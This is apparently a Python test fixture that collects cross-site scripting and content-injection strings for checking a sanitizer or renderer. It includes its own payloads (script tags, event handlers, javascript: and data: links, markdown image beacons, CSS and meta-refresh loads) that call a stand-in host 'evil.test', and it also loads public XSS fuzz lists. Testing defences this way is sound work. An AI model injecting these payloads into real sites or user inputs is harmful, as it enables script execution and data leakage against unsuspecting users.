"""Strings that try to run or load something: our own, and the public lists that lie beside the project where they do."""

from __future__ import annotations

import json
import tarfile
from pathlib import Path

EVIL = "evil.test"
DATA = Path(__file__).resolve().parents[3] / "shared" / "data" / "security"
BAIT = f"top.pwned=1;alert(1);fetch('http://{EVIL}/f')"

OURS = (
    f"<script>{BAIT}</script>",
    f"<img src=http://{EVIL}/i.png onerror=\"{BAIT}\">",
    f"<svg/onload=\"{BAIT}\"><image href=http://{EVIL}/s.png></svg>",
    f"<iframe src=\"javascript:{BAIT}\"></iframe><iframe srcdoc=\"<script>{BAIT}</script>\"></iframe>",
    f"<object data=http://{EVIL}/o></object><embed src=http://{EVIL}/e><video src=http://{EVIL}/v autoplay></video>",
    f"<link rel=stylesheet href=http://{EVIL}/c.css><style>@import 'http://{EVIL}/d.css';*{{background:url(http://{EVIL}/b)}}</style>",
    f"<meta http-equiv=refresh content='0;url=http://{EVIL}/m'><base href=http://{EVIL}/>",
    f"<form action=http://{EVIL}/form><button autofocus onfocus=\"{BAIT}\">go</button></form>",
    f"<details open ontoggle=\"{BAIT}\">x</details><a href=\"javascript:{BAIT}\" autofocus>x</a>",
    f"![picture](http://{EVIL}/markdown.png)",
    f"[![both](http://{EVIL}/inner.png)](javascript:{BAIT})",
    "[press](javascript:alert(1)) [press](JaVaScRiPt&colon;alert(1)) [press](&#106;avascript:alert(1))",
    "[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [press](vbscript:msgbox(1)) <javascript:alert(1)>",
    "[press](java\tscript:alert(1)) [press](\x01javascript:alert(1)) [press]( javascript:alert(1) 'title')",
    f"[named][n]\n\n[n]: javascript:{BAIT} \"title\"",
    f"\"><script>{BAIT}</script><p title=\"",
    f"'-alert(1)-' `${{alert(1)}}` </title></textarea></style></script><script>{BAIT}</script>",
    f"<!--><script>{BAIT}</script>--> <![CDATA[<script>{BAIT}</script>]]> <?xml-stylesheet href='http://{EVIL}/x.xsl'?>",
    f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={BAIT}&gt;\">",
    f"<noscript><p title=\"</noscript><img src=x onerror='{BAIT}'>\"></noscript><template><script>{BAIT}</script></template>",
    "\ue000999\ue001 \ue0000\ue001 [1]\" onclick=alert(1) x=\" data-claim=0",
    "\u202e<script>alert(1)</script>\u202c \ufeff<scr\u0000ipt>alert(1)</scr\u0000ipt>",
    f"&lt;script&gt;{BAIT}&lt;/script&gt; &amp;lt;img src=x onerror=alert(1)&amp;gt;",
    f"| a | b |\n|---|---|\n| <img src=x onerror={BAIT}> | ![t](http://{EVIL}/t.png) |",
    f"```html\n<script>{BAIT}</script>\n```\n\n`<img src=x onerror=alert(1)>`",
)  # fmt: skip


def strings() -> tuple[str, ...]:
    """Ours always; those of the lists where they are there."""
    return (*OURS, *_naughty(), *_html5sec())


def _naughty() -> tuple[str, ...]:
    text = _member("blns.tar.gz", "blns/blns.json")
    return tuple(s for s in json.loads(text or "[]") if "<" in s or "script" in s.lower())


def _html5sec() -> tuple[str, ...]:
    names = ("SecLists-HTML5sec-Injections-Jhaddix.txt", "SecLists-XSS-Polyglots.txt")
    texts = (_member("ssrf-and-fuzz.tar.gz", f"ssrf/{name}") for name in names)
    return tuple(line for text in texts for line in text.splitlines() if line.strip())


def _member(archive: str, name: str) -> str:
    if not (DATA / archive).is_file():
        return ""
    with tarfile.open(DATA / archive) as tar:
        found = tar.extractfile(name)
        return found.read().decode("utf-8", "replace") if found else ""
